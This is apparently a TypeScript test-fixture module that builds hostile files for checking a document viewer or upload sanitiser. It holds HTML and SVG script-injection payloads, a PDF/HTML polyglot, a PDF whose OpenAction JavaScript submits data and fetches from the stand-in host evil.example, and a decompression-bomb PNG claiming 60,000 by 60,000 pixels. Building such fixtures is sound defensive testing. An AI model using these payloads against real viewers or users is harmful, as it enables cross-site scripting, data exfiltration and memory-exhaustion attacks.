import { crc32, deflateSync } from 'node:zlib';

// Files that try to run something in whoever looks at them, or to fill its memory.

const EVIL = 'https://evil.example';

export const HOSTILE_HTML = Buffer.from(
  `<!doctype html><html><head><meta http-equiv="refresh" content="0; url=${EVIL}/gone"><base href="${EVIL}/"></head>
<body onload="alert(1)"><script>alert(2)</script><script src="${EVIL}/x.js"></script><img src="${EVIL}/pixel" onerror="alert(3)">
<iframe src="javascript:alert(4)"></iframe><form action="${EVIL}"><input autofocus onfocus="alert(5)"></form>
<p>Kære kommune</p><a href="javascript:alert(6)">klik</a></body></html>`,
);

export const HOSTILE_SVG = Buffer.from(
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(7)"><script href="${EVIL}/x.js"/><script>alert(8)</script>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}"/></foreignObject></svg>`,
);

interface PdfParts {
  readonly head?: string;
  readonly catalog?: string;
  readonly annotations?: string;
  readonly image?: { readonly filter: 'JBIG2Decode' | 'JPXDecode'; readonly bits: 1 | 8; readonly content: Buffer };
}

/**
 * A PDF of one page. Its font is not in it.
 *
 * @param head after the first line, as a comment
 * @param catalog more of the catalog, such as an OpenAction
 * @param image 64 pixels wide and high, drawn below the text
 */
export function writePdf(text: string, { head = '', catalog = '', annotations = '', image }: PdfParts = {}): Buffer {
  const drawing = `BT /F1 24 Tf 40 700 Td (${text}) Tj ET ${image ? 'q 400 0 0 400 40 200 cm /Im1 Do Q' : ''}`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << ${image ? '/Im1 6 0 R' : ''} >> >> ${annotations} >>`,
    `<< /Length ${drawing.length} >>\nstream\n${drawing}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  if (image) {
    const { filter, bits, content } = image;
    const head = `/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent ${bits}`;
    objects.push(
      `<< ${head} /Filter /${filter} /Length ${content.length} >>\nstream\n${content.toString('latin1')}\nendstream`,
    );
  }
  let written = `%PDF-1.7\n${head}`;
  const places = objects.map((object, index) => {
    const at = written.length;
    written += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}`;
  return Buffer.from(
    `${written}${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${written.length}\n%%EOF\n`,
    'latin1',
  );
}

/** A page as a scanner writes it: 64 × 64 black pixels in JBIG2 (ITU-T T.88), which are one generic region in MMR coding. */
export const SCANNED_IN_JBIG2 = writePdf('', {
  image: {
    filter: 'JBIG2Decode',
    bits: 1,
    content: Buffer.from(
      'AAAAADAAAQAAABMAAABAAAAAQAAAAAAAAAAAAAAAAAAAASYAAQAAACkAAABAAAAAQAAAAAAAAAAAAAEmoHhv////////////////////+ACACA==',
      'base64',
    ),
  },
});

/** The same in JPEG 2000. */
export const SCANNED_IN_JPEG_2000 = writePdf('', {
  image: {
    filter: 'JPXDecode',
    bits: 8,
    content: Buffer.from(
      'AAAADGpQICANCocKAAAAFGZ0eXBqcDIgAAAAAGpwMiAAAAAtanAyaAAAABZpaGRyAAAAQAAAAEAAAQcHAAAAAAAPY29scgEAAAAAABEAAACNanAyY/9P/1EAKQAAAAAAQAAAAEAAAAAAAAAAAAAAAEAAAABAAAAAAAAAAAAAAQcBAf9SAAwAAAABAAAEBAAB/1wABEBA/2QAJQABQ3JlYXRlZCBieSBPcGVuSlBFRyB2ZXJzaW9uIDIuNS4w/5AACgAAAAAAGwAB/5PfgFARUFSv/3/piWB//9k=',
      'base64',
    ),
  },
});

/** It is a PDF, and a page with scripts to whoever takes it for HTML. */
export const POLYGLOT_PDF = writePdf('Polyglot', {
  head: `%<html><body><script>alert(9)</script><script src="${EVIL}/x.js"></script><img src=x onerror=alert(10)>\n`,
});

const SCRIPT = `/S /JavaScript /JS (app.alert\\('owned'\\); this.submitForm\\('${EVIL}'\\); fetch\\('${EVIL}'\\))`;

/** It has scripts where PDFs may have them: when it is opened, in an action of a page, and behind a link. */
export const SCRIPTED_PDF = writePdf('Med script', {
  catalog: `/OpenAction << ${SCRIPT} >> /AA << /WC << ${SCRIPT} >> >>`,
  annotations: `/AA << /O << ${SCRIPT} >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert\\(11\\)) >> >>]`,
});

/** A PNG whose head says that it is 60000 pixels wide and high, in a few hundred bytes. */
export function writeHugePng(side = 60_000): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head.set([8, 0, 0, 0, 0], 8);
  return writePng(head, deflateSync(Buffer.alloc(60_000)));
}

/** A grey PNG. */
export function writeSmallPng(side = 64): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head.set([8, 0, 0, 0, 0], 8);
  const rows = Buffer.alloc((side + 1) * side, 0x80);
  for (let row = 0; row < side; row += 1) rows[row * (side + 1)] = 0;
  return writePng(head, deflateSync(rows));
}

function writePng(head: Buffer, data: Buffer): Buffer {
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
}

function chunk(name: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(name), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const check = Buffer.alloc(4);
  check.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, check]);
}
